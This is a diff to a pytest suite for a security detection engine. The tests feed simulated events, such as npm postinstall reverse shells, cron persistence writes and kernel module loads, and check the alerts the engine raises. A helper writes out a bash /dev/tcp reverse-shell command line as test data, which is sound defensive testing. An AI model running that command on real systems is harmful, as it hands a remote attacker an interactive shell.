@@ -9,7 +9,8 @@ import pytest
 from agent.abi.layout import CONTEXTS
 from agent.events import FLAG_SEEDED, Exec, FileWrite, ModuleLoad
 from agent.lineage.identity import process_key
-from tests.unit.test_detectors import REMOTE, RULES, World, check_contract
+from tests.helpers.events import REMOTE
+from tests.unit.test_detectors import RULES, World, check_contract
 
 LISTS = RULES.lists
 NPM = "/usr/lib/node_modules/npm/bin/npm-cli.js"
@@ -117,9 +118,9 @@ def test_package_install_inside_ci_job_takes_over_and_keeps_the_job_for_attribut
 def test_seeded_processes_get_their_context() -> None:
     w = World()
     w.start[30], w.ppid[30], w.comm[30] = 1, 1, "Runner.Worker"
-    w.feed(Exec(**w._hdr(30, 0), filename="/opt/r/bin/Runner.Worker", args=("Runner.Worker",), flags=FLAG_SEEDED))
+    w.feed(Exec(**w.header(30, 0), filename="/opt/r/bin/Runner.Worker", args=("Runner.Worker",), flags=FLAG_SEEDED))
     w.start[31], w.ppid[31], w.comm[31] = 2, 30, "bash"
-    w.feed(Exec(**w._hdr(31, 0), filename="/usr/bin/bash", args=("bash",), flags=FLAG_SEEDED))
+    w.feed(Exec(**w.header(31, 0), filename="/usr/bin/bash", args=("bash",), flags=FLAG_SEEDED))
     assert context(w, 31) == "cicd_runner_github_actions"
     # Both were written into the kernel map, so what they start later inherits in the kernel too.
     ctx_id = CONTEXTS["cicd_runner_github_actions"]
@@ -141,7 +142,7 @@ def test_kernel_context_is_used_when_the_lineage_is_missing() -> None:
     w.spawn(40, None, "/usr/bin/gitlab-runner", ("gitlab-runner", "run"))
     # pid 41's fork was lost; its exec says the kernel holds it in pid 40's context.
     w.start[41], w.ppid[41], w.comm[41] = int(2e12), 999, "bash"
-    hdr = {**w._hdr(41, 1.0), "context": CONTEXTS["cicd_runner_gitlab"], "context_root_pid": 40,
+    hdr = {**w.header(41, 1.0), "context": CONTEXTS["cicd_runner_gitlab"], "context_root_pid": 40,
            "context_root_start": w.start[40]}
     w.feed(Exec(**hdr, filename="/usr/bin/bash", args=("bash",)))
     assert context(w, 41) == "cicd_runner_gitlab"
@@ -149,18 +150,17 @@ def test_kernel_context_is_used_when_the_lineage_is_missing() -> None:
 
 
 def reverse_shell(w: World, pid: int, parent: int, t: float, **env: Any) -> None:
-    w.spawn(pid, parent, "/usr/bin/bash", ("bash", "-c", "bash -i >& /dev/tcp/198.51.100.2/4444 0>&1"), t=t,
+    w.spawn(pid, parent, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=t,
             env=env)
     w.connect(pid, REMOTE, 4444, t + 0.01)
     w.dup(pid, 0, t + 0.02)
-    w.feed(Exec(**w._hdr(pid, t + 0.03), filename="/usr/bin/bash", args=("bash", "-i"),
-                stdio=("socket",) * 3, stdio_socket_fd=0, stdio_family="ipv4", stdio_transport="tcp",
-                stdio_daddr=REMOTE, stdio_dport=4444, env=env))
+    w.exec(pid, "/usr/bin/bash", ("bash", "-i"), t + 0.03, stdio=("socket",) * 3, stdio_socket_fd=0,
+           stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE, stdio_dport=4444, env=env)
 
 
 def cron_write(w: World, pid: int, parent: int, t: float, path: str = "/etc/cron.d/x") -> None:
     w.spawn(pid, parent, "/usr/bin/tee", ("tee", path), t=t)
-    w.feed(FileWrite(**w._hdr(pid, t + 0.01), path=path, operation="open", flags_open=0o1101))
+    w.file_write(pid, path, t + 0.01)
 
 
 def test_npm_postinstall_reverse_shell_then_cron_is_one_incident_high_then_critical() -> None:
@@ -213,8 +213,8 @@ def test_reverse_shell_outside_any_context_keeps_its_rule_severity() -> None:
 def test_dpkg_unpacking_its_own_cron_file_is_not_persistence_but_its_maintainer_script_is() -> None:
     w = World()
     w.spawn(60, None, "/usr/bin/dpkg", ("dpkg", "-i", "/tmp/cronpkg_1.0_all.deb"))
-    w.feed(FileWrite(**w._hdr(60, 0.1), path="/etc/cron.d/cronpkg.dpkg-new", operation="open", flags_open=0o101))
-    w.feed(FileWrite(**w._hdr(60, 0.2), path="/etc/cron.d/cronpkg", source_path="/etc/cron.d/cronpkg.dpkg-new",
+    w.feed(FileWrite(**w.header(60, 0.1), path="/etc/cron.d/cronpkg.dpkg-new", operation="open", flags_open=0o101))
+    w.feed(FileWrite(**w.header(60, 0.2), path="/etc/cron.d/cronpkg", source_path="/etc/cron.d/cronpkg.dpkg-new",
                      operation="rename"))
     assert w.alerts == [] and w.engine.detectors.unpacker_writes == 2
     postinst = {"DPKG_MAINTSCRIPT_PACKAGE": "cronpkg", "DPKG_MAINTSCRIPT_NAME": "postinst"}
@@ -231,7 +231,7 @@ def test_module_load_is_persistence() -> None:
     w = World()
     npm_install(w)
     w.spawn(13, 12, "/usr/sbin/insmod", ("insmod", "/tmp/rk.ko"), t=0.3)
-    w.feed(ModuleLoad(**w._hdr(13, 0.31), source="exec", syscall="execve", filename="/usr/sbin/insmod",
+    w.feed(ModuleLoad(**w.header(13, 0.31), source="exec", syscall="execve", filename="/usr/sbin/insmod",
                       args=("insmod", "/tmp/rk.ko")))
     (alert,) = w.alerts
     assert alert["file"]["path"] == "/tmp/rk.ko" and alert["event"]["severity"] == 47
